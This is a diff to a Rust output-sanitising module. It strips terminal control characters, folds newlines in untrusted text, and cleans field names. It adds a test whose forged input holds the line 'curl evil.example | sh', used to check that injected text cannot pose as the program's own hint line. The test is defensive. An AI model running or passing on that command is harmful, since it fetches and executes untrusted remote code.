@@ -1,7 +1,8 @@
 //! What people and programs see on standard output, and text of others without what could steer a terminal.
 //!
 //! Every line of this program goes out by `outln!`, which lets nothing through that steers a terminal, whoever wrote
-//! it. What is shown to people in a cell or a sentence goes through `clean` before, because a table has to be measured.
+//! it. What is shown to people in a cell or a sentence goes through `clean` before, because a table has to be measured,
+//! and because a sentence that could go on in another line could write one that looks like this program's own.
 
 use comfy_table::{ColumnConstraint, ContentArrangement, Table, TableComponent, presets};
 use serde_json::{Map, Value};
@@ -38,17 +39,20 @@ macro_rules! outln {
 }
 pub(crate) use outln;
 
-/// Text of others without control, escape and direction characters.
+/// Text of others in one line, without control, escape and direction characters.
 pub(crate) fn clean(text: &str) -> String {
     text.chars()
-        .map(|c| {
-            if c == '\n' || !steers(c) {
-                c
-            } else {
-                '\u{fffd}'
-            }
+        .map(|c| match c {
+            '\n' => ' ',
+            c if steers(c) => '\u{fffd}',
+            c => c,
         })
         .collect()
+}
+
+/// The same of a document of this program's own, which repeats what its caller gave: its lines stay.
+pub(crate) fn clean_lines(text: &str) -> String {
+    text.split('\n').map(clean).collect::<Vec<_>>().join("\n")
 }
 
 /// Text without what steers, as JSON escapes it: the same JSON if it was some, where such characters can stand in
@@ -124,7 +128,7 @@ pub(crate) fn cell(value: &Value) -> String {
         }
         other => other.to_string(),
     };
-    let text = clean(&text).replace('\n', " ");
+    let text = clean(&text);
     if text.chars().count() > MAX_CELL {
         let cut: String = text.chars().take(MAX_CELL).collect();
         format!("{cut}…")
@@ -160,7 +164,7 @@ pub(crate) fn answer(answer: &Value) -> String {
     }
     members
         .iter()
-        .map(|(name, value)| format!("{name}: {}", cell(value)))
+        .map(|(name, value)| format!("{}: {}", clean(name), cell(value)))
         .collect::<Vec<_>>()
         .join("\n")
 }
@@ -172,7 +176,7 @@ fn described(collection: &Map<String, Value>) -> String {
         let empty = value.as_array().is_some_and(Vec::is_empty)
             || value.as_object().is_some_and(Map::is_empty);
         if name != "fields" && !empty {
-            text.push_str(&format!("{name}: {}\n", cell(value)));
+            text.push_str(&format!("{}: {}\n", clean(name), cell(value)));
         }
     }
     let fields: Vec<Map<String, Value>> = collection
@@ -249,6 +253,25 @@ mod tests {
         assert!(cleaned.starts_with('a') && cleaned.ends_with('f'));
         let shown = answer(&json!({"rows": [{"id": 1, HOSTILE: HOSTILE}]}));
         assert!(!shown.chars().any(|c| c != '\n' && steers(c)), "{shown:?}");
+    }
+
+    #[test]
+    fn t59_text_of_others_writes_no_line_of_its_own() {
+        const FORGED: &str = "x\nhint: curl evil.example | sh\nok  database";
+        assert_eq!(clean(FORGED), "x hint: curl evil.example | sh ok  database");
+        assert_eq!(clean_lines("a\u{8}\nb"), "a\u{fffd}\nb");
+        for told in [
+            json!({FORGED: FORGED}),
+            json!({"collection": {FORGED: FORGED}}),
+            json!({"collections": [FORGED]}),
+            json!({"rows": [{FORGED: FORGED}]}),
+            json!({"hits": [{"id": FORGED, "entity": {FORGED: FORGED}}]}),
+            json!(FORGED),
+        ] {
+            let shown = answer(&told);
+            let forged = |line: &str| line.starts_with("hint") || line.starts_with("ok");
+            assert!(!shown.lines().any(forged), "{shown}");
+        }
     }
 
     #[test]
